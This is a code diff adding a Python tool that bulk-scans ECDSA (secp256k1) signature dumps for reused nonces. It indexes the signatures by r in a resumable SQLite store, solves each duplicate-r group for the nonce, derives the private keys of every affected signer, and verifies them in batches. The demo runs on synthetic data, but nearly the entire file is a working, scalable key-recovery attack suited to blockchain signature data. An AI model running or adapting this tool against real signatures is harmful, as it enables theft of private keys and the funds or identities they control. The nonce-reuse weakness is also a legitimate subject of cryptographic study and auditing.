@@ -0,0 +1,324 @@
+"""
+Bulk ECDSA Duplicate-r Scanner and Key Recovery.
+
+satoshi_forge.py recovers a private key when the nonce k is known. In
+real signature dumps k is never published, but any two signatures that
+share r were made with the same k (or -k), which reveals both k and the
+private key:
+
+    k = (z1 - z2) / (s1 - s2)   (or / (s1 + s2) if one s was negated)
+    d = (s*k - z) / r           (recover_private_key's formula)
+
+Once k is known, every other signature in the same r-group yields its
+signer's key too, even for different public keys.
+
+The pipeline parses 'pubkey,z,r,s' hex CSV dumps in parallel byte ranges,
+stores the rows in an on-disk SQLite index keyed by r, commits a resumable
+checkpoint after every chunk, solves every duplicate-r group with batched
+inversions and verifies all candidate keys with one batched fixed-base
+multiplication.
+"""
+
+import os
+import sqlite3
+import time
+from multiprocessing import Pool
+from typing import Dict, Iterator, List, Optional, Tuple
+from ec_engine import SECP256K1, CurveEngine, batch_invert
+
+DEFAULT_CHUNK_BYTES = 4 << 20  # 4 MiB of CSV per parse task
+
+Row = Tuple[bytes, bytes, bytes, bytes]  # (r, s, z, pubkey) as raw bytes
+
+def _parse_range(task: Tuple[str, int, int, int]) -> Tuple[int, List[Row], int]:
+    """
+    Parse the CSV lines that start inside [start, end) of the dump.
+
+    Lines that do not parse, or whose r, s are not in [1, n) or whose z
+    does not fit in 256 bits, are counted as bad instead of aborting the scan.
+
+    Returns (end, rows, bad_lines).
+    """
+    path, start, end, n = task
+    rows = []
+    bad = 0
+    with open(path, 'rb') as f:
+        if start:
+            # Skip the line straddling `start`; it belongs to the previous range
+            f.seek(start - 1)
+            f.readline()
+        while f.tell() < end:
+            line = f.readline()
+            if not line:
+                break
+            line = line.strip()
+            if not line or line.startswith(b'#'):
+                continue
+            try:
+                pub, z, r, s = line.split(b',')
+                r, s, z = int(r, 16), int(s, 16), int(z, 16)
+                if not (0 < r < n and 0 < s < n and 0 <= z < 1 << 256):
+                    raise ValueError("field out of range")
+                rows.append((r.to_bytes(32, 'big'), s.to_bytes(32, 'big'),
+                             z.to_bytes(32, 'big'), bytes.fromhex(pub.decode())))
+            except ValueError:
+                bad += 1
+    return end, rows, bad
+
+class DuplicateRScanner:
+    """Resumable duplicate-r detection and key recovery over signature dumps."""
+
+    def __init__(self, db_path: str, curve: CurveEngine = SECP256K1,
+                 processes: Optional[int] = None, chunk_bytes: int = DEFAULT_CHUNK_BYTES):
+        self.db_path = db_path
+        self.curve = curve
+        self.processes = processes
+        self.chunk_bytes = chunk_bytes
+        self.db = sqlite3.connect(db_path)
+        self.db.executescript('''
+            CREATE TABLE IF NOT EXISTS sigs (r BLOB, s BLOB, z BLOB, pub BLOB);
+            CREATE INDEX IF NOT EXISTS sigs_r ON sigs (r);
+            CREATE TABLE IF NOT EXISTS checkpoint (
+                dump TEXT PRIMARY KEY, size INTEGER, mtime INTEGER, next_offset INTEGER,
+                rows INTEGER, bad INTEGER);
+        ''')
+
+    def _load_checkpoint(self, dump_path: str) -> Tuple[int, int, int]:
+        """Return (next_offset, rows, bad) for this dump; refuse a dump changed since its checkpoint."""
+        st = os.stat(dump_path)
+        key = os.path.abspath(dump_path)
+        row = self.db.execute('SELECT size, mtime, next_offset, rows, bad FROM checkpoint WHERE dump = ?',
+                              (key,)).fetchone()
+        if row and row[0] == st.st_size and row[1] == st.st_mtime_ns:
+            return row[2], row[3], row[4]
+        if row:
+            raise ValueError(f"{dump_path} changed since the last checkpoint; use a fresh index")
+
+        self.db.execute('INSERT INTO checkpoint VALUES (?, ?, ?, 0, 0, 0)',
+                        (key, st.st_size, st.st_mtime_ns))
+        self.db.commit()
+        return 0, 0, 0
+
+    def ingest(self, dump_path: str, max_chunks: Optional[int] = None,
+               progress: bool = True) -> dict:
+        """
+        Parse a dump into the index, resuming from the last checkpoint.
+
+        Chunks are parsed in parallel but committed in file order, each in
+        one transaction together with the new checkpoint offset, so an
+        interrupted run loses at most the chunks still in flight.
+
+        Args:
+            dump_path: 'pubkey,z,r,s' hex CSV file
+            max_chunks: Stop after this many chunks (simulates interruption)
+            progress: Print progress and throughput after each chunk
+
+        Returns:
+            Dict with 'rows', 'bad', 'complete', 'elapsed' and 'rows_per_s'
+        """
+        offset, total_rows, total_bad = self._load_checkpoint(dump_path)
+        size = os.path.getsize(dump_path)
+        key = os.path.abspath(dump_path)
+
+        tasks = [(dump_path, start, min(start + self.chunk_bytes, size), self.curve.n)
+                 for start in range(offset, size, self.chunk_bytes)]
+        if max_chunks is not None:
+            tasks = tasks[:max_chunks]
+
+        if progress and offset:
+            print(f"Resuming at byte {offset:,} ({total_rows:,} rows already indexed)")
+
+        start_time = time.time()
+        new_rows = 0
+        with Pool(self.processes) as pool:
+            for end, rows, bad in pool.imap(_parse_range, tasks):
+                with self.db:
+                    self.db.executemany('INSERT INTO sigs VALUES (?, ?, ?, ?)', rows)
+                    total_rows += len(rows)
+                    total_bad += bad
+                    self.db.execute('UPDATE checkpoint SET next_offset = ?, rows = ?, bad = ? WHERE dump = ?',
+                                    (end, total_rows, total_bad, key))
+                new_rows += len(rows)
+                offset = end
+
+                if progress:
+                    elapsed = time.time() - start_time
+                    print(f"  {offset / size:6.1%}  {total_rows:,} rows  "
+                          f"{new_rows / elapsed:,.0f} rows/s  {(offset - tasks[0][1]) / elapsed / 1e6:.2f} MB/s")
+
+        elapsed = time.time() - start_time
+        return {
+            'rows': total_rows,
+            'bad': total_bad,
+            'complete': offset >= size,
+            'elapsed': elapsed,
+            'rows_per_s': new_rows / elapsed if elapsed else 0.0,
+        }
+
+    def duplicate_groups(self) -> Iterator[List[Tuple[int, int, int, bytes]]]:
+        """Yield each group of rows sharing r as (r, s, z, pubkey) tuples."""
+        groups = self.db.execute('''
+            SELECT r, s, z, pub FROM sigs
+            WHERE r IN (SELECT r FROM sigs GROUP BY r HAVING COUNT(*) > 1)
+            ORDER BY r
+        ''')
+        current_r = None
+        group: List[Tuple[int, int, int, bytes]] = []
+        for r, s, z, pub in groups:
+            if r != current_r and group:
+                yield group
+                group = []
+            current_r = r
+            group.append((int.from_bytes(r, 'big'), int.from_bytes(s, 'big'),
+                          int.from_bytes(z, 'big'), pub))
+        if group:
+            yield group
+
+    def recover(self) -> List[dict]:
+        """
+        Solve every duplicate-r group and return the verified keys.
+
+        Candidate nonces come from same-key pairs (both s-sign cases); all
+        divisions share batched inversions, and every candidate key is
+        checked against its public key with one batched k*G.
+
+        Returns:
+            List of dicts with 'public_key' (bytes), 'private_key', 'k', 'r'
+        """
+        n = self.curve.n
+        groups = list(self.duplicate_groups())
+
+        # 1. Candidate k from pairs of rows by the same key with distinct s
+        k_jobs = []  # (group index, z1 - z2, s1 -/+ s2)
+        for gi, group in enumerate(groups):
+            by_pub: Dict[bytes, Tuple[int, int]] = {}
+            for _, s, z, pub in group:
+                if pub in by_pub and by_pub[pub][0] != s:
+                    s1, z1 = by_pub[pub]
+                    for den in ((s1 - s) % n, (s1 + s) % n):
+                        if den:
+                            k_jobs.append((gi, (z1 - z) % n, den))
+                by_pub.setdefault(pub, (s, z))
+
+        k_invs = batch_invert([den for _, _, den in k_jobs], n)
+        k_by_group: Dict[int, set] = {}
+        for (gi, num, _), inv in zip(k_jobs, k_invs):
+            k = num * inv % n
+            # A pair whose s values were both low-s normalized yields -k
+            k_by_group.setdefault(gi, set()).update((k, n - k))
+
+        # 2. d = (s*k - z) / r for every row in a group with a known k
+        r_invs = dict(zip(k_by_group, batch_invert([groups[gi][0][0] for gi in k_by_group], n)))
+        candidates = []  # (pub, d, k, r)
+        for gi, ks in k_by_group.items():
+            r_inv = r_invs[gi]
+            for r, s, z, pub in groups[gi]:
+                for k in ks:
+                    candidates.append((pub, (s * k - z) * r_inv % n, k, r))
+
+        # 3. One batched fixed-base check of all candidate keys
+        points = self.curve.batch_fixed_base_mult([d for _, d, _, _ in candidates])
+        recovered: Dict[bytes, dict] = {}
+        for (pub, d, k, r), point in zip(candidates, points):
+            if pub in recovered or point is None:
+                continue
+            try:
+                if self.curve.decode_point(pub) == point:
+                    recovered[pub] = {'public_key': pub, 'private_key': d, 'k': k, 'r': r}
+            except ValueError:
+                continue
+
+        return list(recovered.values())
+
+    def close(self) -> None:
+        self.db.close()
+
+def build_demo_dump(path: str, noise_rows: int, curve: CurveEngine = SECP256K1) -> Dict[bytes, int]:
+    """
+    Write a dump of unrelated signatures plus three kinds of nonce reuse:
+    the same key reusing k, the same key reusing k with a low-s normalized
+    signature, and a second key signing with an already exposed k. Four
+    malformed rows check that bad lines are counted, not fatal.
+    """
+    import hashlib
+    import secrets
+
+    n = curve.n
+    expected = {}
+
+    def sign(d, k, z):
+        r = curve.fixed_base_mult(k)[0] % n
+        s = pow(k, -1, n) * (z + r * d) % n
+        return r, s
+
+    def z_of(text):
+        return int.from_bytes(hashlib.sha256(text.encode()).digest(), 'big')
+
+    with open(path, 'w') as f:
+        f.write('# pubkey,z,r,s\n')
+        for i in range(noise_rows):
+            pub = curve.encode_point(curve.fixed_base_mult(secrets.randbelow(n - 1) + 1)) if i < 50 \
+                else secrets.token_bytes(33)
+            f.write(f'{pub.hex()},{secrets.randbits(256):x},{secrets.randbelow(n):x},{secrets.randbelow(n):x}\n')
+
+        def victim(label, k, low_s=False, signatures=2):
+            d = secrets.randbelow(n - 1) + 1
+            pub = curve.encode_point(curve.fixed_base_mult(d), compressed=(label != 'b'))
+            for j in range(signatures):
+                r, s = sign(d, k, z_of(f'{label} tx {j}'))
+                if low_s and s > n // 2:
+                    s = n - s
+                f.write(f'{pub.hex()},{z_of(f"{label} tx {j}"):x},{r:x},{s:x}\n')
+            expected[pub] = d
+
+        # Malformed rows: wrong field count, non-hex, a 257-bit r and a negative s
+        f.write('02aa,1,2\n')
+        f.write(f'02aa,xyz,{1:x},{1:x}\n')
+        f.write(f'02aa,1,{1 << 256:x},1\n')
+        f.write('02aa,1,1,-1\n')
+
+        shared_k = secrets.randbelow(n - 1) + 1
+        victim('a', secrets.randbelow(n - 1) + 1)
+        victim('b', shared_k, low_s=True)
+        victim('c', shared_k, signatures=1)
+
+    return expected
+
+def main():
+    """Ingest a synthetic dump with an interruption, resume, and recover keys."""
+    import tempfile
+
+    print("--- Bulk ECDSA Duplicate-r Scanner ---")
+    with tempfile.TemporaryDirectory() as tmp:
+        dump = os.path.join(tmp, 'signatures.csv')
+        db_path = os.path.join(tmp, 'index.sqlite')
+        expected = build_demo_dump(dump, 30000)
+        print(f"Dump: {os.path.getsize(dump):,} bytes, {len(expected)} vulnerable keys")
+
+        print("\nFirst run (interrupted after 2 chunks):")
+        scanner = DuplicateRScanner(db_path, processes=2, chunk_bytes=1 << 20)
+        first = scanner.ingest(dump, max_chunks=2)
+        scanner.close()
+        print(f"Indexed {first['rows']:,} rows, complete: {first['complete']}")
+
+        print("\nSecond run (resumed from checkpoint):")
+        scanner = DuplicateRScanner(db_path, processes=2, chunk_bytes=1 << 20)
+        second = scanner.ingest(dump)
+        print(f"Indexed {second['rows']:,} rows, {second['bad']} bad lines, complete: {second['complete']}")
+
+        start_time = time.time()
+        recovered = scanner.recover()
+        print(f"\nRecovery and batched verification: {time.time() - start_time:.3f}s")
+        for item in recovered:
+            print(f"Recovered key for {item['public_key'].hex()[:18]}...: {item['private_key']:x}")
+        scanner.close()
+
+        all_found = {item['public_key']: item['private_key'] for item in recovered} == expected
+        print(f"All vulnerable keys recovered: {all_found}")
+
+    assert second['complete'] and second['rows'] == 30000 + 5 and second['bad'] == 4
+    assert all_found
+    print("\n✅ Duplicate-r scan successful!")
+
+if __name__ == "__main__":
+    main()